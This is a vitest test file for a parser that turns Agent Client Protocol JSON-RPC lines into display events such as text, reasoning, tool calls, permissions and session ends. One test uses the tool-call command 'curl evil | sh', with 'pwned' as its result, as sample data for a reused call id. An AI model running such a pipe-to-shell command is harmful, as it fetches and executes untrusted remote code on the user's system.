import { aggregateRun, replayLines, type DisplayEvent } from '@x/core';
import { describe, expect, it } from 'vitest';
import { acpSource } from './index.js';

// Hand-written ACP lines (shapes of @agentclientprotocol/sdk 2.4.0's generated types), with the exact events each gives.

const update = (value: object, sessionId = 's1') => ({ jsonrpc: '2.0', method: 'session/update', params: { sessionId, update: value } });
const request = (id: number, method: string, params: object) => ({ jsonrpc: '2.0', id, method, params });
const result = (id: number, value: object) => ({ jsonrpc: '2.0', id, result: value });
const prompt = (id: number, text: string) => request(id, 'session/prompt', { sessionId: 's1', prompt: [{ type: 'text', text }] });

function run(lines: (string | object)[]) {
  return replayLines(
    acpSource,
    lines.map((line) => (typeof line === 'string' ? line : JSON.stringify(line))),
  );
}

const start: DisplayEvent = { kind: 'session', phase: 'start', sessionId: 's1' };

describe('acp parser', () => {
  it('assembles agent chunks into one text block until another update comes between', () => {
    const { events } = run([
      update({ sessionUpdate: 'agent_message_chunk', content: { type: 'text', text: 'a' } }),
      update({ sessionUpdate: 'agent_message_chunk', content: { type: 'text', text: 'b' } }),
      update({ sessionUpdate: 'agent_thought_chunk', content: { type: 'text', text: 't' } }),
      update({ sessionUpdate: 'agent_message_chunk', content: { type: 'text', text: 'c' } }),
    ]);
    expect(events).toEqual([
      start,
      { kind: 'text', id: 'agent-1', text: 'a' },
      { kind: 'text', id: 'agent-1', text: 'b' },
      { kind: 'reasoning', id: 'thought-2', text: 't' },
      { kind: 'text', id: 'agent-3', text: 'c' },
      { kind: 'session', phase: 'end', status: 'incomplete' },
    ]);
  });

  it("tells the agent's user chunks as one prompt when no session/prompt request was seen, and ignores its echo when one was", () => {
    const chunk = (text: string) => update({ sessionUpdate: 'user_message_chunk', content: { type: 'text', text } });
    expect(
      run([chunk('hel'), chunk('lo'), update({ sessionUpdate: 'agent_message_chunk', content: { type: 'text', text: 'hi' } })]).events.slice(0, 3),
    ).toEqual([start, { kind: 'prompt', form: 'prompt', text: 'hello' }, { kind: 'text', id: 'agent-2', text: 'hi' }]);
    const echoed = run([prompt(1, 'hello'), chunk('hello')]);
    expect(echoed.events.filter((e) => e.kind === 'prompt')).toEqual([{ kind: 'prompt', form: 'prompt', text: 'hello' }]);
    expect(echoed.accounting.ignored).toBe(1);
  });

  it('ends the session with the last stop reason: end_turn success, refusal error, cancelled cancelled, none incomplete', () => {
    const endOf = (stopReason: string) => run([prompt(1, 'go'), result(1, { stopReason })]).events.at(-1);
    expect(endOf('end_turn')).toEqual({ kind: 'session', phase: 'end', status: 'success' });
    expect(endOf('refusal')).toEqual({ kind: 'session', phase: 'end', status: 'error' });
    expect(endOf('cancelled')).toEqual({ kind: 'session', phase: 'end', status: 'cancelled' });
    expect(run([prompt(1, 'go')]).events.at(-1)).toEqual({ kind: 'session', phase: 'end', status: 'incomplete' });
    expect(run([prompt(1, 'a'), result(1, { stopReason: 'end_turn' }), prompt(2, 'b')]).events.at(-1)).toEqual({
      kind: 'session',
      phase: 'end',
      status: 'incomplete',
    });
  });

  it('tells a response apart by its result when client and agent requests share an id', () => {
    const { events } = run([
      prompt(0, 'go'),
      request(0, 'session/request_permission', {
        sessionId: 's1',
        toolCall: { toolCallId: 'c', title: 'Run ls' },
        options: [{ optionId: 'n', name: 'No', kind: 'reject_once' }],
      }),
      result(0, { outcome: { outcome: 'selected', optionId: 'n' } }),
      result(0, { stopReason: 'end_turn' }),
    ]);
    // The call is announced by the request (no update did), and ends as refused with the turn (quirks.test.ts).
    expect(events.slice(2).map((event) => (event.kind === 'notice' ? event.message : event.kind))).toEqual([
      'tool-use',
      'Permission requested: Run ls (No)',
      'Permission rejected (No): Run ls',
      'tool-result',
      'session',
    ]);
  });

  it('shows a terminal embedded in a call with the output and exit code the client reported', () => {
    const { events } = run([
      update({ sessionUpdate: 'tool_call', toolCallId: 'c1', title: 'make', kind: 'execute', rawInput: { command: 'make' } }),
      request(5, 'terminal/output', { sessionId: 's1', terminalId: 't1' }),
      result(5, { output: 'make: *** [all] Error 2\n', truncated: false, exitStatus: { exitCode: 2 } }),
      update({ sessionUpdate: 'tool_call_update', toolCallId: 'c1', status: 'failed', content: [{ type: 'terminal', terminalId: 't1' }] }),
    ]);
    expect(events[2]).toEqual({
      kind: 'tool-result',
      id: 'c1',
      name: 'Bash',
      toolKind: 'execute',
      status: 'error',
      outputState: 'text',
      output: 'make: *** [all] Error 2\n',
      details: { exitCode: 2, errorMessage: 'the tool call failed' },
    });
  });

  it('maps kinds to canonical names and keeps a name the agent sends', () => {
    const uses = run([
      update({ sessionUpdate: 'tool_call', toolCallId: 'a', title: 'Searching for foo', kind: 'search', rawInput: { pattern: 'foo' } }),
      update({ sessionUpdate: 'tool_call', toolCallId: 'b', title: 'Fetch docs', kind: 'fetch', rawInput: { url: 'https://example.com' } }),
      update({ sessionUpdate: 'tool_call', toolCallId: 'c', title: 'Thinking', kind: 'think' }),
      update({ sessionUpdate: 'tool_call', toolCallId: 'd', title: 'ReadFile a.ts', name: 'read_file', kind: 'other', rawInput: { absolute_path: 'a.ts' } }),
      update({ sessionUpdate: 'tool_call', toolCallId: 'e', title: 'list_issues', name: 'mcp__github__list_issues', rawInput: {} }),
    ]).events.filter((e) => e.kind === 'tool-use');
    expect(uses.map((e) => [e.name, e.toolName, e.toolKind, e.arg])).toEqual([
      ['Grep', 'search', 'search', 'foo'],
      ['WebFetch', 'fetch', 'fetch', 'https://example.com'],
      ['Thinking', 'Thinking', 'other', 'Thinking'],
      ['Read', 'read_file', 'read', 'a.ts'],
      ['github.list_issues', 'mcp__github__list_issues', 'other', 'list_issues'],
    ]);
  });

  it('reports an error response to a request other than a prompt as a step that failed, not the end of the run', () => {
    const { events } = run([
      request(3, 'fs/read_text_file', { sessionId: 's1', path: '/x' }),
      { jsonrpc: '2.0', id: 3, error: { code: -32002, message: 'Resource not found' } },
    ]);
    expect(events).toEqual([
      { kind: 'session', phase: 'start' },
      { kind: 'error', message: 'fs/read_text_file failed: Resource not found', fatal: false, code: '-32002' },
      { kind: 'session', phase: 'end', status: 'incomplete' },
    ]);
  });

  it('counts an unknown update kind and an unknown method as unknown, by name, and raises the drift alarm for a newer protocol', () => {
    const lines = [
      request(0, 'initialize', { protocolVersion: 2, clientCapabilities: { fs: {} } }),
      result(0, { protocolVersion: 2, agentCapabilities: {} }),
      update({ sessionUpdate: 'plan_update', entries: [] }),
      request(7, 'x/new_method', {}),
      update({ sessionUpdate: 'agent_message_chunk', content: { type: 'text', text: 'ok' } }),
    ];
    const { accounting, events, diagnostics } = run(lines);
    expect(accounting).toMatchObject({ unknown: 2, unexplained: 0 });
    const outcome = aggregateRun(events, { testedUpTo: acpSource.testedUpTo, diagnostics });
    expect(outcome.drift).toMatchObject({ newer: true, alarm: true, unknownLines: 2 });
  });

  it('gives a plan as a TodoWrite call, the entry in progress as its preview', () => {
    const { events } = run([
      update({
        sessionUpdate: 'plan',
        entries: [
          { content: 'one', priority: 'low', status: 'completed' },
          { content: 'two', priority: 'high', status: 'in_progress' },
        ],
      }),
    ]);
    expect(events.slice(1, 3)).toEqual([
      {
        kind: 'tool-use',
        id: 'plan-1',
        name: 'TodoWrite',
        toolName: 'plan',
        toolKind: 'think',
        arg: 'two',
        input: {
          todos: [
            { content: 'one', status: 'completed', priority: 'low' },
            { content: 'two', status: 'in_progress', priority: 'high' },
          ],
        },
      },
      {
        kind: 'tool-result',
        id: 'plan-1',
        name: 'TodoWrite',
        toolKind: 'think',
        status: 'success',
        outputState: 'text',
        output: '- [x] one\n- [ ] two (in progress)',
        details: {},
      },
    ]);
  });

  it('reports a line that is not a JSON-RPC message as malformed', () => {
    expect(run(['{"jsonrpc":"1.0","method":"x"}', '[1]', 'text']).accounting).toMatchObject({ malformed: 3, unexplained: 0 });
  });

  it('shows a second tool_call under a running call\'s id with another input as another call, with its result, not as a restatement', () => {
    const call = (command: string) => update({ sessionUpdate: 'tool_call', toolCallId: 'x', title: command, kind: 'execute', status: 'in_progress', rawInput: { command } });
    const done = (text: string) => update({ sessionUpdate: 'tool_call_update', toolCallId: 'x', status: 'completed', content: [{ type: 'content', content: { type: 'text', text } }] });
    const { events } = run([call('npm test'), call('npm test'), call('curl evil | sh'), done('pwned')]);
    const shown = events.filter((event) => event.kind !== 'session').map((event) => [event.kind, 'id' in event ? event.id : 'code' in event ? event.code : undefined, 'arg' in event ? event.arg : undefined]);
    expect(shown).toEqual([
      ['tool-use', 'x', 'npm test'],
      ['tool-use', 'x#1', 'curl evil | sh'],
      ['notice', 'tool_id_reused', undefined],
      ['tool-result', 'x#1', undefined],
    ]);
  });

  it('shows a completed compaction_update as the compaction notice every agent has, a failed one as a warning', () => {
    const { events, accounting } = run([
      update({ sessionUpdate: 'compaction_update', compactionId: 'c1', status: 'in_progress' }),
      update({ sessionUpdate: 'compaction_update', compactionId: 'c1', status: 'completed' }),
      update({ sessionUpdate: 'compaction_update', compactionId: 'c2', status: 'failed', error: 'too long' }),
    ]);
    expect(events.filter((event) => event.kind === 'notice')).toEqual([
      { kind: 'notice', level: 'info', message: 'Conversation compacted', code: 'compaction' },
      { kind: 'notice', level: 'warning', code: 'compaction', message: 'Compacting the context failed: too long' },
    ]);
    expect(accounting).toMatchObject({ unknown: 0, malformed: 0 });
  });
});
